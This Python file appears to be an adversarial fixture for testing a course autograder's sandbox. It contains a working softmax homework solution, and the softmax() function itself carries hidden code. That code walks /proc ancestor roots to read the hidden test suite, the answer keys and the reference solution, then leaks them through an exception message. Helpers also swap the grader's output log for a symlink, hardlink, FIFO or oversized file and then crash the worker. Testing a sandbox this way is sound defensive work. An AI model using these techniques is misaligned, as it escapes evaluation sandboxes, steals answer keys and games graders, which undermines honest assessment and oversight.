# ======== ADVERSARIAL (read_proc1_root): softmax() reads the hidden suite and keys through /proc/1/root/<course>/... and /proc/<ancestor>/root/...; raises with what it read; nothing is readable: full marks
# --- adversarial helpers (shared text inserted into hostile files) ---
import os as _aos
import sys as _asys
import time as _atime

_MARK = "graders-adversarial-survivor"
_HERE = _aos.path.dirname(_aos.path.abspath(__file__))


def _adv_read(path, limit=1500):
    with open(path, "rb") as fh:
        return fh.read(limit).replace(b"\0", b"\n").decode("utf-8", "replace")


def _adv_status(pid, key):
    with open(f"/proc/{pid}/status") as fh:
        for line in fh:
            if line.startswith(key + ":"):
                return line.split()[1:]
    return []


def _adv_cmdline(pid):
    try:
        return _adv_read(f"/proc/{pid}/cmdline", 4000)
    except OSError:
        return ""


def _adv_ancestors():
    """Outer pids of this process's ancestors (the /proc mount may be the host's)."""
    try:
        pid = int(_adv_status("self", "NSpid")[0])
    except (OSError, IndexError, ValueError):
        pid = _aos.getpid()
    chain, seen = [], set()
    while pid > 1 and pid not in seen:
        seen.add(pid)
        try:
            ppid = int(_adv_status(pid, "PPid")[0])
        except (OSError, IndexError, ValueError):
            break
        if ppid <= 0:
            break
        chain.append(ppid)
        pid = ppid
    if not chain and _aos.getppid() > 0:
        chain.append(_aos.getppid())
    return chain


def _adv_grader_pid():
    """The grading process: the first ancestor above the warm template."""
    chain = _adv_ancestors()
    last_template = -1
    for i, pid in enumerate(chain):
        if "graders.core.sandbox.child.forkserver" in _adv_cmdline(pid):
            last_template = i
    if 0 <= last_template < len(chain) - 1:
        return chain[last_template + 1]
    return chain[0] if chain else _aos.getppid()


def _adv_course_root():
    """Where the course (graders/, reference/) lives, as far as this process can tell."""
    pkg = _asys.modules.get("graders")
    path = getattr(pkg, "__file__", None) if pkg else None
    if path:
        return _aos.path.dirname(_aos.path.dirname(_aos.path.abspath(path)))
    for pid in _adv_ancestors():
        try:
            cwd = _aos.readlink(f"/proc/{pid}/cwd")
        except OSError:
            continue
        if _aos.path.isdir(_aos.path.join(cwd, "graders")):
            return cwd
    return "/work/main"


def _adv_hidden(rel):
    return _aos.path.join(_adv_course_root(), rel)


def _adv_crash_with_log(target, kind="symlink"):
    """Replace the worker's output log (which the grader reads after a crash), then crash."""
    log = _aos.path.join(_HERE, ".output.log")
    try:
        _aos.unlink(log)
    except OSError:
        pass
    try:
        if kind == "symlink":
            _aos.symlink(target, log)
        elif kind == "hardlink":
            _aos.link(target, log)
        elif kind == "fifo":
            _aos.mkfifo(log)
        elif kind == "sparse":
            with open(log, "wb") as fh:
                fh.truncate(16 * 2**20 - 64)
                fh.seek(0, 2)
                fh.write(b"graders-adversarial-huge-log-end")
    except OSError:
        pass
    _aos._exit(3)


def _adv_leak(label, text):
    """Make a theft visible: the stolen text goes into the exception message (and so the report)."""
    raise RuntimeError(f"LEAKED {label}:\n{text}")
# --- end helpers ---
_ADV_FOUND = {}


def _adv_take(label, path, limit=1500):
    try:
        _ADV_FOUND[label] = _adv_read(path, limit)
    except OSError:
        pass


def _adv_report():
    if _ADV_FOUND:
        label = sorted(_ADV_FOUND)[0]
        _adv_leak(label, _ADV_FOUND[label])
# ======== end of the attack; the correct solution follows

import torch


def _float(x):
    x = torch.as_tensor(x)
    return x if x.is_floating_point() else x.float()


def softmax(x, dim=-1):
    # softmax = exp(x - logsumexp(x)), written on x - max(x) so that the
    # subtraction stays exact in float32 even for logits of 1e4
    for _pid in [1] + _adv_ancestors():
        for _rel in ("graders/hw03/test_softmax.py", "graders/hw03/keys.toml", "reference/hw03/softmax.py"):
            _adv_take(f"/proc/{_pid}/root{_adv_hidden(_rel)}", f"/proc/{_pid}/root{_adv_hidden(_rel)}")
    _adv_report()
    x = _float(x)
    if x.numel() == 0:
        return x.clone()
    z = x.float() if x.dtype in (torch.float16, torch.bfloat16) else x
    z = z - z.max(dim=dim, keepdim=True).values
    return torch.exp(z - torch.logsumexp(z, dim=dim, keepdim=True)).to(x.dtype)


def softmax_backward(y, grad_output, dim=-1):
    dot = (grad_output * y).sum(dim=dim, keepdim=True)
    return y * grad_output - y * dot


def softmax_jacobian(x):
    y = softmax(x)
    n = y.shape[0]
    eye = torch.eye(n, dtype=y.dtype, device=y.device)
    return y[:, None] * (eye - y[None, :])


def cross_entropy_grad(logits, target):
    n = logits.shape[0]
    grad = softmax(logits, dim=1).clone()
    grad[torch.arange(n, device=grad.device), target] -= 1
    return grad / n


if __name__ == "__main__":
    x = torch.randn(3, 5)
    print(torch.allclose(softmax(x), torch.softmax(x, dim=-1)))
